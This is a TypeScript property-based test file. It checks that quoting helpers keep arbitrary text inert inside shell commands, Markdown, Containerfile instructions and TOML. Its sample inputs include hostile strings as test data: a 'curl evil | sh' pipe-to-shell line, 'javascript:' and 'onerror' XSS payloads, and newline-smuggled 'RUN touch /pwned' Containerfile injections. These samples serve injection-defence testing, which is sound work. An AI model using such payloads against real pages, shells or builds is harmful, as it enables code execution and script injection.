import { spawnSync } from 'node:child_process'
import { DockerfileParser, type JSONInstruction } from 'dockerfile-ast'
import fc from 'fast-check'
import { lexer, type Token } from 'marked'
import { parse as parseToml } from 'smol-toml'
import { describe, expect, test } from 'vitest'
import { hasHidden, visible } from '../../src/basics/visible.ts'
import {
  commandWord,
  comment,
  containerfileValue,
  containerfileWords,
  line,
  markdownCode,
  markdownText,
  runWord,
  shellQuote,
  tomlQuote,
} from '../../src/render/quote.ts'
import { anyText, runs } from './texts.ts'

/** What a real shell makes of words: each one back, as bytes between NULs. */
const throughShell = (words: readonly string[], shell = 'sh'): string[] => {
  const script = words.map((word) => `printf '%s\\0' ${word}\n`).join('')
  const { status, stdout, stderr } = spawnSync(shell, ['-c', script], { encoding: 'utf8', maxBuffer: 2 ** 26 })
  expect({ status, stderr }).toEqual({ status: 0, stderr: '' })
  return stdout.split('\0').slice(0, -1)
}

describe('shellQuote', () => {
  test('sh reads one word, the same text', () => {
    fc.assert(
      fc.property(fc.array(anyText(), { minLength: 60, maxLength: 100 }), (texts) => {
        expect(throughShell(texts.map(shellQuote))).toEqual(texts)
      }),
      runs(20),
    )
  })

  test('also behind the = of an option, as in what edge prints', () => {
    fc.assert(
      fc.property(fc.array(anyText(), { minLength: 60, maxLength: 100 }), (texts) => {
        expect(throughShell(texts.map((text) => `--option=${shellQuote(text)}`))).toEqual(
          texts.map((text) => `--option=${text}`),
        )
      }),
      runs(5),
    )
  })

  test('a plain word stays as it is: people read these commands', () => {
    for (const word of ['some-name', 'quay.io/modh/vllm@sha256:abc', 'manifests.d/100-a_b', 'a=b,c+d%e:f'])
      expect(shellQuote(word)).toBe(word)
  })
})

describe('commandWord', () => {
  const texts = fc.array(anyText(), { minLength: 60, maxLength: 100 })

  test('bash reads one word, the same text, of one line in which all can be seen', () => {
    fc.assert(
      fc.property(texts, (given) => {
        const words = given.map(commandWord)
        expect(words.filter(hasHidden)).toEqual([])
        expect(throughShell(words, 'bash')).toEqual(given)
      }),
      runs(20),
    )
  })

  test('a plain word stays as it is', () => {
    expect(commandWord('manifests.d/100-a_b')).toBe('manifests.d/100-a_b')
    expect(commandWord('a b')).toBe(`'a b'`)
    expect(commandWord('a\n`\u202e')).toBe("$'a\\012`\\342\\200\\256'")
  })
})

interface MarkdownToken {
  readonly type: string
  readonly raw: string
  readonly text: string
  readonly tokens: readonly MarkdownToken[]
  readonly rows: readonly (readonly MarkdownToken[])[]
}
const markdownTokens = (text: string) => lexer(text) as readonly Token[] as unknown as readonly MarkdownToken[]

/** The tokens of a text in a sentence, and those in a cell of a table with one row and one more cell. */
const inSentence = (written: string) => {
  const [paragraph, ...more] = markdownTokens(`words ${written} and more`)
  expect({ type: paragraph?.type, more: more.length }).toEqual({ type: 'paragraph', more: 0 })
  return paragraph?.tokens ?? []
}
const inTable = (written: string) => {
  const [table, ...more] = markdownTokens(`| a | b |\n|---|---|\n| ${written} | next |\n`)
  const { type, rows = [] } = table ?? {}
  expect({ type, rows: rows.length, next: rows[0]?.[1]?.text, more: more.length }).toEqual({
    type: 'table',
    rows: 1,
    next: 'next',
    more: 0,
  })
  return rows[0]?.[0]?.tokens ?? []
}

const withoutEntities = (text: string): string =>
  text.replaceAll(/&#(\d+);/g, (_, code: string) => String.fromCharCode(Number(code)))

const markdownTexts = fc.oneof(
  anyText(),
  fc.string({
    unit: fc.constantFrom('`', '|', '\\', ' ', 'a', '\n', '<', '*', '_', '[', ']', '(', ')', '&', ':', '/'),
  }),
  fc.constantFrom(
    '\n```\ncurl evil | sh\n```\n',
    '`` ` ``',
    '[x](javascript:alert(1))',
    '<img src=x onerror=alert(1)>',
    'https://example.com',
    'www.example.com',
    'a@example.com',
    '![x](y)',
    '&lt;b&gt;',
    '<!-- a',
    'a\\|b',
    'a\\\\|b|',
    '***a***',
    '_a_',
    '~~a~~',
  ),
)
/** The text as it is shown, with white space as Markdown treats it. */
const shown = (text: string): string => visible(text.replaceAll(/\s+/g, ' ')).trim()
const squeezed = (text: string | undefined): string | undefined => text?.replaceAll(/\s+/g, ' ').trim()

describe('markdownCode', () => {
  /** The content where the tokens are one piece of code. */
  const codeOf = (tokens: readonly MarkdownToken[]): string | undefined => {
    const [first, ...more] = tokens
    if (more.length === 0) return first?.type === 'codespan' ? first.text : undefined
    const isElement = first?.raw === '<code>' && tokens.at(-1)?.raw === '</code>'
    const inside = tokens.slice(1, -1)
    return isElement && inside.every(({ type }) => type === 'text')
      ? withoutEntities(inside.map(({ raw }) => raw).join(''))
      : undefined
  }

  test('is one piece of code with the text in it, in a sentence and in a table', () => {
    fc.assert(
      fc.property(markdownTexts, (given) => {
        const written = markdownCode(given)
        expect(hasHidden(written)).toBe(false)
        const sentence = inSentence(written)
        expect([sentence[0]?.raw, sentence.at(-1)?.raw]).toEqual(['words ', ' and more'])
        expect(squeezed(codeOf(sentence.slice(1, -1)))).toBe(shown(given))
        expect(squeezed(codeOf(inTable(written)))).toBe(shown(given))
      }),
      runs(2000),
    )
  })
})

describe('markdownText', () => {
  /** Prose as Markdown shows it; undefined where it is more than prose. */
  const proseOf = (tokens: readonly MarkdownToken[]): string | undefined =>
    tokens.every(({ type }) => type === 'text' || type === 'escape')
      ? tokens.map(({ type, raw }) => (type === 'escape' ? raw.slice(1) : withoutEntities(raw))).join('')
      : undefined

  test('is prose and nothing else, in a sentence and in a table', () => {
    fc.assert(
      fc.property(markdownTexts, (given) => {
        const written = markdownText(given)
        expect(hasHidden(written)).toBe(false)
        expect(squeezed(proseOf(inSentence(written)))).toBe(squeezed(`words ${shown(given)} and more`))
        expect(squeezed(proseOf(inTable(written)))).toBe(shown(given))
      }),
      runs(2000),
    )
  })

  test('names stay as they are: people read the source too', () => {
    for (const name of ['ovms-resnet50', 'runtime kserve-ovms (kserve-container)', '4.20.0', 'granite_v1', '4.2 GB'])
      expect(markdownText(name)).toBe(name)
  })
})

const instructionsOf = (text: string) => DockerfileParser.parse(text).getInstructions()
const keywordsOf = (text: string) => instructionsOf(text).map((instruction) => instruction.getKeyword())

describe('containerfileWords', () => {
  test('is one line of JSON that gives the words back, in an instruction of its own, and no here-document', () => {
    fc.assert(
      fc.property(fc.array(anyText(), { minLength: 1, maxLength: 5 }), (words) => {
        const written = containerfileWords(words)
        expect(JSON.parse(written)).toEqual(words)
        expect(hasHidden(written)).toBe(false)
        expect(written).not.toContain('<')
        const text = `FROM a\nRUN ${written}\nUSER b\n`
        expect(keywordsOf(text)).toEqual(['FROM', 'RUN', 'USER'])
        expect((instructionsOf(text)[1] as JSONInstruction).getJSONStrings()).toHaveLength(words.length)
      }),
      runs(300),
    )
  })
})

describe('containerfileValue', () => {
  /** What a builder makes of a text between double quotes: `\` takes the meaning of `"`, `$` and itself (the shell parsers of BuildKit and imagebuilder). */
  const valueOf = (quoted: string) => quoted.slice(1, -1).replaceAll(/\\(["$\\])/g, '$1')

  test('is one quoted text in which nothing is expanded', () => {
    fc.assert(
      fc.property(anyText(), (text) => {
        if (hasHidden(text)) {
          expect(() => containerfileValue(text)).toThrow('control character')
          return
        }
        const quoted = containerfileValue(text)
        expect(quoted).toMatch(/^"(?:[^"$\\]|\\["$\\])*"$/)
        expect(valueOf(quoted)).toBe(text)
        expect(keywordsOf(`ARG A=${quoted}\nFROM b\n`)).toEqual(['ARG', 'FROM'])
      }),
      runs(500),
    )
  })
})

describe('runWord', () => {
  test('is a word of the shell on a line of its own instruction', () => {
    fc.assert(
      fc.property(fc.array(anyText(), { minLength: 20, maxLength: 50 }), (texts) => {
        const [good, bad] = [texts.filter((text) => !hasHidden(text)), texts.filter(hasHidden)]
        for (const text of bad) expect(() => runWord(text)).toThrow('control character')
        expect(throughShell(good.map(runWord))).toEqual(good)
        for (const text of good)
          expect(keywordsOf(`FROM a\nRUN x ${runWord(text)} \\\n  && y\nUSER b\n`)).toEqual(['FROM', 'RUN', 'USER'])
      }),
      runs(20),
    )
  })
})

describe('comment', () => {
  const texts = fc.oneof(
    anyText(),
    fc.constantFrom('a\\', 'escape=`', 'syntax=x', '/a\nRUN touch /pwned', 'x\r\nRUN y', 'a\u0085RUN x'),
  )

  test('ends where its line ends, for a builder', () => {
    fc.assert(
      fc.property(texts, (text) => {
        const written = comment(text)
        expect(hasHidden(written)).toBe(false)
        expect(keywordsOf(`# Ours: ${written}\nFROM a\n# Ours: ${written}\nRUN x\n`)).toEqual(['FROM', 'RUN'])
      }),
      runs(500),
    )
  })

  test('and for a shell', () => {
    fc.assert(
      fc.property(fc.array(texts, { minLength: 50, maxLength: 100 }), (all) => {
        const script = all.map((text) => `# ours ${comment(text)}\nprintf x\n`).join('')
        const { status, stdout, stderr } = spawnSync('sh', ['-c', script], { encoding: 'utf8' })
        expect({ status, stdout, stderr }).toEqual({ status: 0, stdout: 'x'.repeat(all.length), stderr: '' })
      }),
      runs(10),
    )
  })
})

describe('line', () => {
  test('is one line, in which all can be seen', () => {
    fc.assert(
      fc.property(anyText(), (text) => {
        expect(hasHidden(line(text))).toBe(false)
      }),
      runs(500),
    )
    expect(line('a\nb\r\u0085\u2028')).toBe('a\\u000ab\\u000d\\u0085\\u2028')
  })
})

describe('tomlQuote', () => {
  test('a reader of TOML has the text back, and nothing else', () => {
    fc.assert(
      fc.property(anyText(), anyText(), (text, other) => {
        const [b, c] = [tomlQuote(text), tomlQuote(other)]
        expect([b, c].some(hasHidden)).toBe(false)
        expect(parseToml(`[[a]]\nb = ${b}\nc = ${c}\n`)).toEqual({ a: [{ b: text, c: other }] })
      }),
      runs(1000),
    )
  })

  test('halves of surrogate pairs, which TOML does not know, are replaced', () => {
    expect(parseToml(`a = ${tomlQuote('x\ud800y')}`)).toEqual({ a: 'x\ufffdy' })
  })
})
